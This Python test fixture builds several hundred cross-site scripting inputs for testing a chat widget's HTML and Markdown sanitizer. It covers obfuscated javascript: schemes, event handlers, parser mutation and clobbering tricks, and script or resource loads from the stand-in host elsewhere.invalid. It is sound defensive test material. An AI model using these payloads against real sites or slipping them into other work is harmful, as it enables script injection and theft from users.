"""Texts that try to run a script, leave the page or fetch from elsewhere, made family by family. Ours; nothing is copied.

`CASES` is {name: text}. Every script of a case calls one of the tripwires that `test_widget_xss.py` lays (alert, a flag of
the window, a request to `ELSEWHERE`), so that any way of coming true is seen.
"""

from collections.abc import Iterator
from itertools import product

ELSEWHERE = "elsewhere.invalid"
_GO = f"//{ELSEWHERE}/x"
_JS = "alert(1)"
_FLAG = "window.hit=1"

_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle")
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&#x0000003a;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "jav&Tab;ascript:alert(1)",
    "jav&NewLine;ascript:alert(1)",
    "javascript\\:alert(1)",
    "java\\script:alert(1)",
    "javascript:%61lert(1)",
    "javascript://host/%0aalert(1)",
    "javascript:void(window.hit=1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://elsewhere.invalid/1",
    "filesystem:https://elsewhere.invalid/1",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "intent:#Intent;action=x;end",
    "about:blank",
    "ws://elsewhere.invalid/",
    "//elsewhere.invalid/x",
    "\\\\elsewhere.invalid\\x",
    "ｊavascript:alert(1)",
    "javascript：alert(1)",
    "\u202ejavascript:alert(1)",
    "javas\u00adcript:alert(1)",
)


def _scripts() -> Iterator[tuple[str, str]]:
    for number, text in enumerate(
        (
            f"<script>{_JS}</script>",
            f"<SCRIPT>{_JS}</SCRIPT>",
            f"<script src={_GO}></script>",
            f"<script/src={_GO}>",
            f"<script type=module>import '{_GO}'</script>",
            f"<scr<script>ipt>{_JS}</scr</script>ipt>",
            f"<script\n>{_JS}</script\n>",
            f"<script>/*\n\n*/{_JS}</script>",
            f"<script >{_JS}",
            f"<<script>{_JS}//<</script>",
            f"<script\x0c>{_JS}</script>",
            f"</script><script>{_JS}</script>",
            f"<noscript><p title='</noscript><img src=x onerror={_JS}>'></noscript>",
            f"<template><script>{_JS}</script></template>",
            f"<textarea></textarea><script>{_JS}</script>",
            f"<!--><script>{_JS}</script>-->",
            f"<![CDATA[<script>{_JS}</script>]]>",
            f"<?xml version='1.0'?><script>{_JS}</script>",
            f"<!DOCTYPE x [<!ENTITY y '{_JS}'>]><script>&y;</script>",
            f"&lt;script&gt;{_JS}&lt;/script&gt;",
            f"&#60;script&#62;{_JS}&#60;/script&#62;",
            f"&amp;lt;script&amp;gt;{_JS}&amp;lt;/script&amp;gt;",
            f"\\<script\\>{_JS}\\</script\\>",
            f"＜script＞{_JS}＜/script＞",
            f"\x00<script>{_JS}</script>",
        )
    ):
        yield f"script-{number}", text


def _elements() -> Iterator[tuple[str, str]]:
    carriers = {
        "img": "<img src=x {}>",
        "svg": "<svg {}><animate attributeName=x dur=1s>",
        "body": "<body {}>",
        "input": "<input autofocus {}>",
        "details": "<details open {}>x</details>",
        "video": "<video {}><source src=x></video>",
        "div": '<div style="animation:a 1s" tabindex=0 {}>x</div>',
        "custom": "<x-y tabindex=1 autofocus {}>x</x-y>",
    }
    for (name, carrier), event in product(carriers.items(), _EVENTS):
        yield f"event-{name}-{event}", carrier.format(f"{event}={_JS}")
    for number, quote in enumerate(("'", '"', "`", "")):
        yield f"event-quote-{number}", f"<img src={quote}x{quote} onerror={quote}{_JS}{quote}>"
    for number, gap in enumerate(("/", "\n", "\t", "\x0c", "//", " / ")):
        yield f"event-gap-{number}", f"<img{gap}src=x{gap}onerror={_JS}>"
    fetching = {
        "img": f"<img src={_GO}>",
        "srcset": f"<img srcset='{_GO} 2x'>",
        "picture": f"<picture><source srcset={_GO}><img></picture>",
        "iframe": f"<iframe src={_GO}></iframe>",
        "srcdoc": f"<iframe srcdoc='<script>parent.{_FLAG}</script>'></iframe>",
        "iframe-js": f"<iframe src=javascript:parent.{_FLAG}></iframe>",
        "object": f"<object data={_GO}></object>",
        "embed": f"<embed src={_GO}>",
        "link": f"<link rel=stylesheet href={_GO}>",
        "preload": f"<link rel=preload as=image href={_GO}>",
        "prefetch": f"<link rel=dns-prefetch href={_GO}>",
        "import": f"<style>@import '{_GO}';</style>",
        "style": f"<style>*{{background:url({_GO})}}</style>",
        "style-attribute": f"<p style='background:url({_GO})'>x</p>",
        "base": f"<base href={_GO}>",
        "meta": f"<meta http-equiv=refresh content='0;url={_GO}'>",
        "meta-js": f"<meta http-equiv=refresh content='0;url=javascript:{_JS}'>",
        "form": f"<form action={_GO}><button autofocus>x</button></form>",
        "formaction": f"<button formaction=javascript:{_JS}>x</button>",
        "audio": f"<audio src={_GO} autoplay></audio>",
        "poster": f"<video poster={_GO}></video>",
        "track": f"<video><track src={_GO} default></video>",
        "background": f"<table background={_GO}><td>x</table>",
        "svg-image": f"<svg><image href={_GO} /></svg>",
        "svg-use": f"<svg><use href='{_GO}#x'/></svg>",
        "svg-script": f"<svg><script href={_GO}></script></svg>",
        "svg-script-cdata": f"<svg><script><![CDATA[{_JS}]]></script></svg>",
        "svg-set": f"<svg><a><set attributeName=href to=javascript:{_JS} /><text>x</text></a></svg>",
        "svg-foreign": f"<svg><foreignObject><img src=x onerror={_JS}></foreignObject></svg>",
        "math": f"<math href=javascript:{_JS}>x</math>",
        "math-link": f"<math><maction actiontype=statusline xlink:href=javascript:{_JS}>x</maction></math>",
        "frameset": f"<frameset onload={_JS}><frame src={_GO}>",
        "marquee": f"<marquee onstart={_JS}>x</marquee>",
        "portal": f"<portal src={_GO}></portal>",
        "ping": f"<a href=# ping={_GO}>x</a>",
        "shadow": f"<div><template shadowrootmode=open><img src=x onerror={_JS}></template></div>",
        "slot": f"<slot name=x onslotchange={_JS}></slot>",
        "dialog": f"<dialog open onclose={_JS}></dialog>",
        "popover": f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={_JS}>x</p>",
        "is": f"<p is=x-y onclick={_JS}>x</p>",
        "applet": f"<applet code={_GO}></applet>",
        "isindex": f"<isindex type=image src={_GO} onerror={_JS}>",
        "xss-layer": f"<layer src={_GO}></layer>",
    }
    for name, text in fetching.items():
        yield f"element-{name}", text


def _mutations() -> Iterator[tuple[str, str]]:
    """What is harmless until it is written out and read again."""
    inner = f"<img src=x onerror={_JS}>"
    outers = {
        "math-style": "<math><style>{}</style></math>",
        "math-mglyph": "<math><mtext><table><mglyph><style><!--</style>{}",
        "svg-style": "<svg><style>{}</style></svg>",
        "svg-title": "<svg><title><style>{}</style></title></svg>",
        "svg-desc": "<svg></p><desc><style>{}</desc>",
        "noembed": "<noembed>{}</noembed>",
        "noframes": "<noframes>{}</noframes>",
        "xmp": "<xmp>{}</xmp>",
        "plaintext": "<plaintext>{}",
        "title": "<title>{}</title>",
        "select": "<select><template><style><!--</style>{}</select>",
        "form-nest": "<form><math><mtext></form><form><mglyph><style></math>{}",
        "comment": "<!--<!-- -->{}-->",
        "comment-bang": "<!--x--!>{}",
        "comment-short": "<!-->{}",
        "comment-dash": "<!--->{}",
        "attribute": '<p title="</p>{}">x</p>',
        "attribute-tick": "<p title=`{}`>x</p>",
        "table": "<table><tr>{}</tr></table>",
        "cdata-svg": "<svg><![CDATA[><{}]]></svg>",
        "annotation": "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
        "option": "<select><option>{}</option></select>",
    }
    for (name, outer), payload in product(
        outers.items(),
        (inner, f"</style></title></xmp>{inner}", f"</noembed></textarea>{inner}", f"--><svg onload={_JS}>"),
    ):
        yield f"mutation-{name}-{payload[:6]}", outer.format(payload)


def _links() -> Iterator[tuple[str, str]]:
    forms = {
        "inline": "[x]({})",
        "angle": "[x](<{}>)",
        "title": '[x]({} "t")',
        "auto": "<{}>",
        "picture": "![x]({})",
        "definition": "[a][b]\n\n[b]: {}",
        "citation": "[1]({})",
        "html": '<a href="{}">x</a>',
    }
    for (form, text), (number, scheme) in product(forms.items(), enumerate(_SCHEMES)):
        yield f"link-{form}-{number}", text.format(scheme)
    quote = f'" onmouseover={_JS} x="'
    for number, text in enumerate(
        (
            f"[x](https://a.invalid/{quote})",
            f"[x](<https://a.invalid/{quote}>)",
            f'[x](https://a.invalid "{quote}")',
            f"[x](https://a.invalid '{quote}')",
            f"[x](https://a.invalid 'a\" onmouseover={_JS} \"')",
            f'![a" onerror={_JS} "](https://{ELSEWHERE}/i.png)',
            f"![x](https://{ELSEWHERE}/i.png)",
            f"![x][y]\n\n[y]: https://{ELSEWHERE}/i.png",
            f"[![x](https://{ELSEWHERE}/i.png)](javascript:{_JS})",
            f"[![x](javascript:{_JS})](https://{ELSEWHERE}/)",
            f"![<img src=x onerror={_JS}>](https://{ELSEWHERE}/i.png)",
            f"[<img src=x onerror={_JS}>](https://a.invalid)",
            f"[<script>{_JS}</script>](https://a.invalid)",
            f"[a](https://a.invalid)<img src=x onerror={_JS}>",
            f"https://a.invalid/<script>{_JS}</script>",
            f"https://a.invalid/{quote}",
            f'www.a.invalid/"onclick={_JS}//',
            f'a@b.invalid"onclick={_JS}',
            f'<a@b.invalid" onclick={_JS}>',
            f"[x](mailto:a@b.invalid?subject={quote})",
            f"[x](tel:1{quote})",
            f"[x](https://user:pass@{ELSEWHERE}/)",
            f"[https://bank.example](https://{ELSEWHERE}/)",
            f"[x](https://bank.example@{ELSEWHERE}/)",
            f"[x](https://аррlе.invalid/)",  # noqa: F541 - Cyrillic on purpose
            f"[x]({'(' * 200}javascript:{_JS}{')' * 200})",
            f"[x](java\\script\\:{_JS})",
            f"[x](\u0001javascript:{_JS})",
            f'[x](#" onfocus={_JS} autofocus)',
            f"[x](?x=1&lt;script&gt;{_JS})",
        )
    ):
        yield f"link-trick-{number}", text


def _marks() -> Iterator[tuple[str, str]]:
    """Marks of Markdown that put a text into an attribute, a name, a class or another context."""
    bad = f'"><img src=x onerror={_JS}>'
    for number, text in enumerate(
        (
            f"```{bad}\nx\n```",
            f"```js {bad}\nx\n```",
            f"~~~{bad}\nx\n~~~",
            f"```html\n<script>{_JS}</script>",
            f"```\n</code></pre><script>{_JS}</script>\n```",
            f"`</code><script>{_JS}</script>`",
            f"``<script>{_JS}</script>",
            f"# <img src=x onerror={_JS}>",
            f"# x {{#id onclick={_JS}}}",
            f"<img src=x onerror={_JS}>\n===",
            f"| <img src=x onerror={_JS}> |\n|---|\n| <script>{_JS}</script> |",
            f"| a |\n|:{bad}-|\n| b |",
            f"- [ ] <img src=x onerror={_JS}>",
            f"- [x{bad}] y",
            f"1{bad}. x",
            f"999999999. <svg onload={_JS}>",
            f"> <iframe srcdoc='<script>parent.{_FLAG}</script>'>",
            f"> > > <script>{_JS}</script>",
            f"**<img src=x onerror={_JS}>**",
            f"*<svg onload={_JS}>*",
            f"~~<img src=x onerror={_JS}>~~",
            f"**bold <b onclick={_JS}>x</b>**",
            f"<b>*</b onclick={_JS}>*",
            f"<br onclick={_JS}>",
            f"<br/onclick={_JS}/>",
            f"<br\n{bad}>",
            f"[1]{bad}",
            f"[1{bad}]",
            f"[^1]: <img src=x onerror={_JS}>",
            f"[1]: https://{ELSEWHERE}/ '{bad}'",
            "[1]: javascript:alert(1)\n\n[1]",
            "[2]: data:text/html,<script>alert(1)</script>\n\n[a][2] [2][] [2]",
            "[0][00][000][999999]",
            f"$$\\href{{javascript:{_JS}}}{{x}}$$",
            f"\\(\\url{{javascript:{_JS}}}\\)",
            f":::note{{onclick={_JS}}}\nx\n:::",
            f"<details><summary onclick={_JS}>x</summary></details>",
            f"[[{bad}]]",
            f"![[{bad}]]",
            f"==<img src=x onerror={_JS}>==",
            f"<{ELSEWHERE}>",
            f"<https://a.invalid/{bad}>",
            f"\\![x](https://{ELSEWHERE}/i.png)",
            f"!\\[x](javascript:{_JS})",
            f"[x]\\(javascript:{_JS})",
            f"[x](javascript:{_JS}",
            f"[x\n](javascript:{_JS})",
            f"[x](\njavascript:{_JS}\n)",
            f"[x [y](https://a.invalid)](javascript:{_JS})",
            f"{{{{constructor.constructor('{_JS}')()}}}}",
            f"${{{_JS}}}",
            f"<%= {_JS} %>",
            f"{{{{{_JS}}}}}",
            f"\u202e<img src=x onerror={_JS}>\u202c",
            f"\u2028<script>{_JS}</script>\u2029",
            f"\ufeff<script>{_JS}</script>",
            f"+ADw-script+AD4-{_JS}+ADw-/script+AD4-",
            f"\ud7ff<script>{_JS}</script>",
            f"{'> ' * 300}<script>{_JS}</script>",
            f"{'- ' * 300}<script>{_JS}</script>",
            f"{'[' * 500}x{'](javascript:alert(1))' * 500}",
            f"{'*' * 999}<img src=x onerror={_JS}>{'*' * 999}",
        )
    ):
        yield f"mark-{number}", text


def _clobbering() -> Iterator[tuple[str, str]]:
    """Names that hide what the page's own scripts look for."""
    names = ("body", "head", "cookie", "forms", "getElementById", "currentScript", "attributes", "children", "nodeName")
    for name in names:
        yield f"clobber-img-{name}", f"<img name={name}><img id={name}>"
        yield f"clobber-form-{name}", f"<form id={name}><input name={name}></form>"
    yield "clobber-anchor", "<a id=chatwright><a id=chatwright name=open href=javascript:alert(1)>x</a>"
    yield "clobber-custom", "<chatwright-chat chatbot=x></chatwright-chat>"
    yield "clobber-part", "<p part=launcher slot=x class=panel id=panel>x</p>"
    yield "clobber-cite", "<span data-cite=1 class=cited>x</span>"


def all_cases() -> dict[str, str]:
    """Every case by its name."""
    found: dict[str, str] = {}
    for family in (_scripts, _elements, _mutations, _links, _marks, _clobbering):
        for name, text in family():
            assert name not in found, name
            found[name] = text
    return found


CASES = all_cases()

# For places that hold one short text: a name, a title, an address.
SHORT = (
    f"<img src=x onerror={_JS}>",
    f'"><script>{_JS}</script>',
    f"javascript:{_JS}",
    f"[x](javascript:{_JS})",
    f"' onfocus={_JS} autofocus '",
    f"</title></style><svg onload={_JS}>",
)
ADDRESSES = (
    f"javascript:{_JS}",
    f" JavaScript:{_JS}",
    f"java\tscript:{_JS}",
    f"data:text/html,<script>{_JS}</script>",
    f"vbscript:{_JS}",
    f'https://{ELSEWHERE}/" onclick={_JS} "',
    "blob:https://elsewhere.invalid/1",
    "//elsewhere.invalid/x",
    "not an address",
)
